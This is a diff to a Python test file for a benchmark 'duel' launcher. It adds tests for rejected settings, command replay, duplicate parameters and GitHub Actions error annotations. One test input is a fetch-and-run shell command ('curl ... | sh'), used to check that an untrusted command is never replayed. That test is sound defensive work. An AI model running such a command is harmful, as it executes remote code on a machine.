@@ -189,6 +189,7 @@ def test_an_alpha_of_next_to_nothing_is_never_spent(tmp_path: Path) -> None:
         {"blocks": "20"},
         {"alpha": None},
         {"delta": 0.0},
+        {"alpha": 0.5},
         {"base": "\x1b[2J"},
         {"seed": True},
         {"rings": 1.5},
@@ -213,6 +214,13 @@ def test_what_replays_a_duel_has_its_seed_and_writes_elsewhere() -> None:
         assert replay_command(command, 7) == "launcher duel A B --seed 7"
     assert replay_command("launcher duel 'A B' -o", 7) == "launcher duel --seed 7"
     assert replay_command("launcher 'duel", 7) == "launcher duel --seed 7"
+
+
+@pytest.mark.parametrize(
+    "command", ["curl http://example.org/x.sh | sh #", "", "launcher", "launcher run duel", "duel"]
+)
+def test_what_a_stranger_called_that_is_no_duel_is_nobodys_next_command(command: str) -> None:
+    assert replay_command(command, 7) == "launcher duel --seed 7"
 
 
 @pytest.mark.parametrize("seed", [0, -7, 1 << 31])
@@ -328,7 +336,8 @@ def test_a_duel_that_was_stopped_spends_alpha_in_proportion() -> None:
 
 def test_the_plan_fits_into_the_time_after_what_was_tried_out() -> None:
     made = rounds_of(0.0)  # each says that it took a second
-    plan = duel.begin(Told(made), duel.Settings(), 121.0, lambda _: None)
+    plan, broken = duel.begin(Told(made), duel.Settings(), 121.0)
+    assert broken == []
     assert plan.blocks == 19  # 6 s each, in 95 % of 121 s
     assert (plan.base, plan.head, plan.control) == ("A", "B", "A'")
 
@@ -336,9 +345,8 @@ def test_the_plan_fits_into_the_time_after_what_was_tried_out() -> None:
 def test_what_is_broken_when_it_is_tried_out_counts() -> None:
     made = rounds_of(0.0)
     made[0] = replace(made[0], ended="hung")
-    kept: list[Round] = []
-    plan = duel.begin(Told(made), duel.Settings(), 100.0, kept.append)
-    assert plan.judge(kept).exit_code == 4
+    plan, broken = duel.begin(Told(made), duel.Settings(), 100.0)
+    assert plan.judge(broken).exit_code == 4
 
 
 # ---- Sides ----
@@ -358,6 +366,20 @@ def test_a_side_says_what_is_set_for_it() -> None:
 def test_a_side_that_cannot_be_is_refused(text: str) -> None:
     with pytest.raises(UsageError):
         parse(get("wake"), text, "python")
+
+
+@pytest.mark.parametrize(
+    ("text", "settings", "own"),
+    [
+        ("process/select", ["idle_us=100", "idle_us=900"], []),
+        ("process/select", ["pin=free", "pin=same"], []),
+        ("process/select@idle_us=1", [], ["idle_us=2"]),
+        ("process/select@engine=python,engine=kvm", [], []),
+    ],
+)
+def test_what_is_set_twice_is_refused(text: str, settings: list[str], own: list[str]) -> None:
+    with pytest.raises(UsageError, match=r"^parameter '\w+' is set twice, to .* and to .*: leave one out$"):
+        parse(get("wake"), text, "python", settings, own)
 
 
 def test_a_waker_that_cannot_run_the_case_says_why() -> None:
@@ -419,6 +441,28 @@ def test_an_annotation_is_escaped_and_as_loud_as_the_verdict() -> None:
     assert shown[2].endswith("%0Alauncher duel%0AA, B")
     assert shown[0].startswith("::notice ")
     assert shown[3].startswith("::warning ")
+
+
+@pytest.mark.parametrize(
+    ("args", "code", "why"),
+    [
+        (["--show", "/nonexistent"], 1, "No such file"),
+        (["process/select", "process/nix"], 1, "waker 'process/nix' is not known"),
+        (["process/select", "fork/select", "--case", "vring", "--engine", "python"], 77, "fork/select cannot run"),
+    ],
+)
+def test_in_github_actions_what_ends_without_a_verdict_is_an_error_too(
+    args: list[str], code: int, why: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.delenv("GITHUB_ACTIONS", raising=False)
+    assert cli.main(["duel", *args]) == code
+    assert "::error" not in capsys.readouterr().err
+    monkeypatch.setenv("GITHUB_ACTIONS", "true")
+    assert cli.main(["duel", *args]) == code
+    annotation, sentence = capsys.readouterr().err.splitlines()
+    assert annotation.startswith("::error title=launcher duel::")
+    assert why in annotation
+    assert why in sentence
 
 
 def test_in_github_actions_it_annotates_by_itself(
